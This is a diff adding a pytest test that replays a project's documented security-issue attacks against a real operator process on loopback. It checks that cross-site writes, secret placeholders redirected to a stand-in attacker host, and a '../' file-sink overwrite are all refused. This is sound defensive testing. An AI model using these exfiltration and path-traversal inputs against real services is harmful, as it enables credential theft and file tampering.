@@ -1,0 +1,170 @@
+"""docs/security.md, through real processes on loopback: the attacks of the security issue
+replayed against a real operator (providers API on loopback, no admin token) with a
+`gridd sim` backend and a capture server standing in for the attacker's host."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import os
+import signal
+import stat
+import subprocess
+import sys
+import threading
+import time
+
+import httpx
+import pytest
+import yaml
+from realproc import free_ports, gridctl, gridctl_status, wait_until
+
+pytestmark = pytest.mark.realproc
+
+OPERATOR = """\
+role: operator
+site: a
+state_dir: state
+control_socket: run/op.sock
+listen:
+  http: 127.0.0.1:{api_port}
+timings: {{scrape_interval_s: 0.5}}
+providers:
+  - name: secret
+    model: m
+    settings:
+      endpoint: http://127.0.0.1:{sim_port}/v1
+      auth: {{scheme: bearer, api_key: sk-literal}}
+    metrics: {{url: "http://127.0.0.1:{sim_port}/metrics"}}
+  - name: keyed
+    model: m
+    settings:
+      endpoint: http://127.0.0.1:{sim_port}/v1
+      auth: {{scheme: bearer, api_key: "${{SIM_KEY}}"}}
+"""
+
+
+class Capture:
+    """The attacker's host: answers 200 to everything, records each request's headers."""
+
+    def __init__(self) -> None:
+        seen = self.seen = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
+                seen.append({k.lower(): v for k, v in self.headers.items()})
+                body = b"vllm:num_requests_waiting 0\n"
+                self.send_response(200)
+                self.send_header("content-length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_POST = do_GET  # noqa: N815
+
+            def log_message(self, *args) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_real_operator_keeps_secrets_home_and_its_api_and_files_closed(tmp_path):
+    sim_port, api_port = free_ports(2)
+    path = tmp_path / "operator.yaml"
+    path.write_text(OPERATOR.format(api_port=api_port, sim_port=sim_port))
+    victim = tmp_path.parent / f"{tmp_path.name}-victim.txt"  # outside the workspace
+    victim.write_text("precious\n")
+    env = {**os.environ, "SIM_KEY": "sim-secret"}
+    base = f"http://127.0.0.1:{api_port}"
+    capture = Capture()
+    evil = f"http://127.0.0.1:{capture.port}"  # another origin (another port)
+    procs = []
+    try:
+        procs.append(subprocess.Popen([sys.executable, "-m", "gridd", "sim", "--flavour", "vllm", "--port",
+                                       str(sim_port)], stderr=subprocess.DEVNULL, env=env))
+        operator = subprocess.Popen([sys.executable, "-m", "gridd", "run", "--config", str(path)],
+                                    stderr=subprocess.PIPE, text=True, env=env)
+        procs.append(operator)
+        sock = tmp_path / "run" / "op.sock"
+        status = wait_until(lambda: (s := gridctl_status(sock)) and s["state"] == "serving" and s,
+                            "the operator serving")
+        token_file = tmp_path / "state" / "api-token"
+        assert status["role_status"]["providers_api"]["token_file"] == str(token_file)
+        assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
+        token = token_file.read_text().strip()
+        auth = {"authorization": f"Bearer {token}"}
+        before = path.read_bytes()
+
+        with httpx.Client(base_url=base, timeout=30) as client:
+            # Item 2: the issue's cross-site write (text/plain, a page's Origin and Host) and a
+            # tokenless JSON write are refused; a tokenless read from loopback still works.
+            page = {"content-type": "text/plain", "origin": "http://evil.example", "host": "evil.example"}
+            body = json.dumps({"metrics": {"url": f"{evil}/metrics"}})
+            assert client.post("/v1/providers/secret", headers=page, content=body).status_code == 403
+            resp = client.post("/v1/providers/secret", headers={"content-type": "application/json"}, content=body)
+            assert resp.status_code == 401 and resp.json()["error"]["code"] == "invalid_api_key"
+            assert client.delete("/v1/providers/secret").status_code == 401
+            assert client.get("/v1/providers/secret").json()["settings"]["auth"]["api_key"] == "***REDACTED***"
+            assert client.get("/v1/providers/secret", headers={"host": "evil.example"}).status_code == 403
+            assert path.read_bytes() == before
+
+            # gridctl reads the token file.
+            out = gridctl(sock, "providers", "get", "keyed")
+            assert out.returncode == 0, out.stderr
+            assert json.loads(out.stdout)["settings"]["auth"]["api_key"] == "${SIM_KEY}"
+
+            # Item 1: a placeholder into another origin's query, the endpoint moved with the
+            # placeholder, a metrics auth block naming it at another origin: all refused.
+            for name, fields, param in (
+                ("keyed", {"metrics": {"url": f"{evil}/metrics?k=${{SIM_KEY}}"}}, "metrics.url"),
+                ("keyed", {"settings": {"endpoint": f"{evil}/v1", "auth": {"scheme": "bearer",
+                                                                           "api_key": "${SIM_KEY}"}}},
+                 "settings.auth.api_key"),
+                ("keyed", {"metrics": {"url": f"{evil}/metrics",
+                                       "auth": {"scheme": "bearer", "api_key": "${SIM_KEY}"}}},
+                 "metrics.auth.api_key"),
+            ):
+                resp = client.post(f"/v1/providers/{name}", headers=auth, json=fields)
+                assert resp.status_code == 400, resp.text
+                assert (resp.json()["error"]["code"], resp.json()["error"]["param"]) == ("secret_origin_changed",
+                                                                                         param)
+            assert path.read_bytes() == before
+            # Only metrics.url changed to another origin: accepted, but the stored key stays home.
+            resp = client.post("/v1/providers/secret", headers=auth, json={"metrics": {"url": f"{evil}/metrics"}})
+            assert resp.status_code == 200, resp.text
+            wait_until(lambda: len(capture.seen) >= 3, "three scrapes at the new metrics URL")
+            assert all("authorization" not in h for h in capture.seen), capture.seen
+            assert "sk-literal" not in json.dumps(capture.seen) and "sim-secret" not in json.dumps(capture.seen)
+
+            # Item 3: a file sink outside the workspace (the issue's overwrite, max_entries 1).
+            probe = {"name": "p", "endpoint": f"http://127.0.0.1:{sim_port}/metrics", "interval": 0.5,
+                     "extract": [{"regex": r"vllm:(num_requests_waiting)\{[^}]*\}\s+([0-9.]+)"}],
+                     "publish": [{"to": "file", "path": str(victim), "max_entries": 1}]}
+            settings = {"endpoint": f"http://127.0.0.1:{sim_port}/v1",
+                        "auth": {"scheme": "bearer", "api_key": "sk-literal"}, "probes": [probe]}
+            resp = client.post("/v1/providers/secret", headers=auth, json={"settings": settings})
+            assert resp.status_code == 409 and "is outside the workspace" in resp.json()["error"]["message"]
+            probe["publish"][0]["path"] = "../" + victim.name
+            resp = client.post("/v1/providers/secret", headers=auth, json={"settings": settings})
+            assert resp.status_code == 400 and "'..' is not allowed" in resp.json()["error"]["message"]
+            time.sleep(2)
+            assert victim.read_text() == "precious\n"
+            assert yaml.safe_load(path.read_text())["providers"][0]["metrics"]["url"] == f"{evil}/metrics"
+
+        operator.send_signal(signal.SIGTERM)
+        assert operator.wait(timeout=20) == 0
+    finally:
+        capture.close()
+        victim.unlink(missing_ok=True)
+        for proc in procs:
+            if proc.poll() is None:
+                proc.send_signal(signal.SIGTERM)
+                try:
+                    proc.wait(timeout=10)
+                except subprocess.TimeoutExpired:
+                    proc.kill()
